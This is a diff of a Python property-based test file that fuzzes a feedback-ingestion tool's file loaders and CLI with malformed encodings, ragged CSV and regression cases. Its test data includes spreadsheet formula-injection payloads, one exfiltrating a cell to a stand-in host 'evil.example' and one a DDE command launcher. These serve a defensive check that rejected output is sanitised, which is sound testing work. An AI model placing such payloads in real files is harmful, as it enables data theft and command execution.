@@ -1,23 +1,24 @@
-"""Property-based tests over the loaders and `ingest`: 0 crashes, 0 rows silently lost.
+"""Bad input never crashes `pma ingest`: property-based tests over the loaders and ingestion, and the regressions the
+generators found. Every failure is a ``UserError`` (one clear line, exit 1, never 2), and for every file that
+loads, ``added + duplicates + rejected == read``.
 
-Every failure must be a ``UserError`` (one clear line), and for every file that loads,
-``added + duplicates + rejected == read``. Hypothesis generates random bytes, wrong encodings, ragged CSV, huge
-fields, deep JSON and formula-injection cells.
+Hypothesis generates random bytes, wrong encodings, ragged CSV, huge fields, deep JSON and formula-injection cells;
+``tests/support/cases/fuzz.py`` holds the generators ``bench/hardening_fuzz.py`` also runs (with many more cases).
 """
 
 from __future__ import annotations
 
 import csv
 import io
-import json
-
 import pytest
-from hypothesis import HealthCheck, given, settings as hsettings, strategies as st
+from hypothesis import given, strategies as st
 
 from retrieval.db import Database
 from retrieval.errors import UserError
 from retrieval.ingest import ingest_paths
 from retrieval.loaders import load_file
+from tests.support.cases.fuzz import check_ingest_cli, feedback_file, fuzz, write_case
+
 
 EXTS = [".csv", ".tsv", ".json", ".jsonl", ".txt", ".xlsx", ".dat"]
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1+1"]
@@ -28,7 +29,7 @@ cell = st.one_of(
     st.just("x" * 25_000),
     st.sampled_from(["2026-09-03", "1693751000000", "yesterday", "", "  ", "5", "★★★", "n/a"]),
 )
-FUZZ = hsettings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
+FUZZ = fuzz(60)
 
 
 @FUZZ
@@ -67,7 +68,7 @@ rows_strategy = st.lists(st.lists(cell, min_size=0, max_size=5), min_size=1, max
 
 
 @pytest.mark.slow
-@hsettings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
+@fuzz(25)
 @given(rows=rows_strategy, header=st.lists(st.sampled_from(["text", "date", "rating", "note", "id", ""]),
                                            min_size=1, max_size=5))
 def test_ingest_accounts_for_every_row(db_settings, tmp_path_factory, rows, header):
@@ -94,3 +95,46 @@ def test_ingest_accounts_for_every_row(db_settings, tmp_path_factory, rows, head
         with open(report.rejects_path, encoding="utf-8") as fh:
             for line in csv.reader(fh):
                 assert not any(c.startswith(("=", "+", "@")) for c in line), line
+
+
+# ---- regressions the generators found ---------------------------------------------------------------------------
+@pytest.mark.parametrize("data", [b"\xff\xfetext\n", b"\xef\xbb\xbftext\n\xff\xfe\xfa\n", b"\xff\xfe\x00\xd8a\x00"],
+                         ids=["utf16-odd-length", "utf8-bom-then-invalid", "utf16-lone-surrogate"])
+def test_a_byte_order_mark_over_broken_bytes_is_a_user_error(tmp_path, data):
+    path = write_case(tmp_path, "export.csv", data)
+    with pytest.raises(UserError, match=r"export.csv: starts with a UTF-(8|16) byte-order mark but byte \d+"):
+        load_file(path)
+
+
+def test_values_never_carry_what_postgresql_cannot_store(tmp_path):
+    json_path = write_case(tmp_path, "export.json", b'[{"text": "maps \\ud83d broken", "note": "a\\u0000b", '
+                                                    b'"\\ud800key": {"deep": "x\\udfffy"}}]')
+    csv_path = write_case(tmp_path, "export.csv", b"text,note\nlogin\x00 fails,o\x00k\n")
+    values = load_file(json_path).rows[0].values | load_file(csv_path).rows[0].values
+    assert values == {"text": "login fails", "note": "ok", "\ufffdkey.deep": "x\ufffdy"}
+
+
+@pytest.mark.slow
+def test_pma_ingest_exits_0_or_1_and_accounts_for_every_row(db_settings, capsys, monkeypatch, tmp_path_factory):
+    from retrieval.db import Database
+    from ui.cli import run
+
+    monkeypatch.setenv("PMA_HOME", str(db_settings.home))
+    monkeypatch.setenv("PMA_MODELS_CACHE", str(db_settings.models_cache))
+    monkeypatch.setenv("PMA_DATABASE_URL", db_settings.retrieval.database_url.get_secret_value())
+    db = Database(db_settings)
+
+    def count_rows() -> int:
+        with db.connect() as conn:
+            return conn.execute("SELECT count(*) FROM feedback").fetchone()[0]
+
+    outcomes = []
+
+    @fuzz(12)
+    @given(case=feedback_file())
+    def generated_export(case):
+        outcomes.append(check_ingest_cli(run, capsys, write_case(tmp_path_factory.mktemp("in"), *case), count_rows))
+        assert outcomes[-1] in ("ok", "user_error"), outcomes[-1]
+
+    generated_export()
+    assert "ok" in outcomes and "user_error" in outcomes
